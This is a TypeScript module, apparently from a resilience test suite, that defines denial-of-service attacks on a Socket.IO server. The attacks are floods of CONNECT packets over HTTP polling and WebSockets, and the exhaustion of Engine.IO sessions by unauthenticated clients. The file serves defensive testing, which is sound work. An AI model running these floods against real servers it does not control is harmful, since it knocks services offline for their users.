// Attacks of clients without an account.
import type { KnownAttack, Stage } from '../known-attack.ts';
import { HttpClient, repeat } from './http-client.ts';
import { flood, openSocket, textFrame } from './socket-client.ts';

const POLLING = '/socket.io/?EIO=4&transport=polling';
/** As many CONNECT packets as fit into 256 KiB. */
const CONNECT_PACKETS = 87_314;
/** Most of them fill the buffers of connections that the server has closed. */
const MAX_FRAMES = 3_000_000;
const MAX_SESSIONS = 70_000;
const ADDRESSES = 4;
const CONNECTIONS = 4;
const PARALLEL_HANDSHAKES = 64;

/** Opens a polling session. @returns its address, or undefined if the cluster refuses it */
export async function openPolling(http: HttpClient): Promise<string | undefined> {
  const { text } = await http.call('GET', POLLING);
  const sid = /"sid":"([^"]+)"/.exec(text)?.[1];
  return sid && `${POLLING}&sid=${sid}`;
}

async function postConnects(stage: Stage, times: number): Promise<void> {
  const payload = Array(CONNECT_PACKETS).fill('40').join('\x1e');
  const post = async (number: number) => {
    const http = new HttpClient(stage.from(number % ADDRESSES));
    const address = await openPolling(http);
    if (!address) return stage.count('handshakes refused');
    const { status } = await http.call('POST', address, { payload });
    stage.count(`posts of ${CONNECT_PACKETS} CONNECT packets answered with ${status}`);
  };
  await Promise.all(Array.from({ length: times }, (_, number) => post(number)));
}

export const connects: KnownAttack = {
  name: 'connects',
  summary: `one polling POST of 256 KiB with ${CONNECT_PACKETS} CONNECT packets`,
  prepare: async (stage) => () => postConnects(stage, 1),
};

export const connectsOfEight: KnownAttack = {
  name: 'connects-8',
  summary: `eight polling POSTs of 256 KiB with ${CONNECT_PACKETS} CONNECT packets each, at once`,
  prepare: async (stage) => () => postConnects(stage, 8),
};

export const webSocketConnects: KnownAttack = {
  name: 'websocket-connects',
  summary: `CONNECT packets, also of unknown namespaces, over ${CONNECTIONS} WebSockets as fast as they take them`,
  prepare: async (stage) => async (_, signal) => {
    const frames = [textFrame('40'), textFrame('40/unknown,')];
    let sent = 0;
    const attack = async (number: number) => {
      const open = async () => {
        const socket = await openSocket(stage.from(number));
        stage.count(socket ? 'WebSockets' : 'WebSockets refused');
        return socket;
      };
      const nextFrame = () => frames[sent++ % frames.length] ?? Buffer.alloc(0);
      const onSent = (count: number) => stage.count('CONNECT packets', count);
      await flood(open, nextFrame, { max: MAX_FRAMES / CONNECTIONS, signal, onSent });
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, (_, number) => attack(number)));
  },
};

export const engineSessions: KnownAttack = {
  name: 'engine-sessions',
  summary: 'Engine.IO sessions without a CONNECT packet, as many as possible',
  prepare: async (stage) => async (_, signal) => {
    const clients = Array.from({ length: ADDRESSES }, (_, number) => new HttpClient(stage.from(number)));
    await repeat({ parallel: PARALLEL_HANDSHAKES, max: MAX_SESSIONS, signal }, async (worker) => {
      const isOpen = (await openPolling(clients[worker % ADDRESSES] as HttpClient)) !== undefined;
      stage.count(isOpen ? 'sessions' : 'handshakes refused');
    });
  },
};
